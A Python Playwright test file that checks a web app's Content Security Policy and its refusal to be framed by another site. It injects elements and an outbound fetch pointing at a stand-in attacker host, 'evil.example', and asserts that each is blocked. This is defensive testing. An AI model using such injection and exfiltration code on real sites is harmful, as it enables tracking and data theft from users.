"""What a page may not load or run. What it needs is asked for in every other test here: none may see a complaint."""

from playwright.sync_api import Browser, expect

from tests.browser.conftest import POLICY, wait_until_drawn
from tests.support import make

INJECT_SCRIPT = """() => {
    const add = (kind, fields) => document.body.append(Object.assign(document.createElement(kind), fields));
    add('img', {src: 'https://evil.example/pixel.png'});
    add('script', {src: 'https://evil.example/script.js'});
    add('script', {textContent: 'window.ran = true'});
    add('iframe', {src: 'https://evil.example/frame'});
    add('link', {rel: 'stylesheet', href: 'https://evil.example/style.css'});
    fetch('https://evil.example/out').catch(() => {});
}"""
# Streamlit multiplies large numbers in WebAssembly where it may, and without where it may not.
EXPECTED_VIOLATIONS = ["script-src wasm-eval"]
WATCH_SCRIPT = """document.addEventListener('securitypolicyviolation', told => {
    (window.blocked ||= []).push(`${told.effectiveDirective} ${told.blockedURI}`);
})"""


def test_what_is_brought_into_a_page_from_elsewhere_neither_loads_nor_runs(chromium: Browser, live_server: str) -> None:
    person = make.staff(role="admin", password=make.PASSWORD)
    asked: list[str] = []
    told: list[str] = []
    with chromium.new_context() as context:
        page = context.new_page()
        page.add_init_script(WATCH_SCRIPT)
        page.on("requestfinished", lambda request: asked.append(request.url))
        page.on("console", lambda each: told.append(each.text))
        typed = {"email": person.email, "password": make.PASSWORD}
        assert context.request.post(f"{live_server}/session/sign-in", form=typed).ok
        page.goto(f"{live_server}/events")
        wait_until_drawn(page)
        assert page.evaluate("window.blocked") == EXPECTED_VIOLATIONS

        page.evaluate(INJECT_SCRIPT)
        page.wait_for_function("() => window.blocked.length >= 7")

        assert sorted(page.evaluate("window.blocked.slice(1)")) == [
            "connect-src https://evil.example/out",
            "frame-src https://evil.example",
            "img-src https://evil.example/pixel.png",
            "script-src-elem https://evil.example/script.js",
            "script-src-elem inline",
            "style-src-elem https://evil.example/style.css",
        ]
        assert page.evaluate("window.ran") is None
        assert [url for url in asked if "evil" in url] == []
        assert [text for text in told if POLICY in text] != []  # so that the other tests would hear of it


def test_nobody_can_show_us_in_a_frame_of_theirs(chromium: Browser, live_server: str) -> None:
    with chromium.new_context() as context:
        page = context.new_page()
        page.set_content(f'<iframe src="{live_server}/session/sign-in"></iframe><p>Theirs</p>')
        expect(page.get_by_text("Theirs")).to_be_visible()
        page.wait_for_function("() => document.readyState === 'complete'")
        expect(page.frame_locator("iframe").get_by_role("button", name="Sign in")).to_have_count(0)
        assert page.frames[1].url.startswith("chrome-error:")
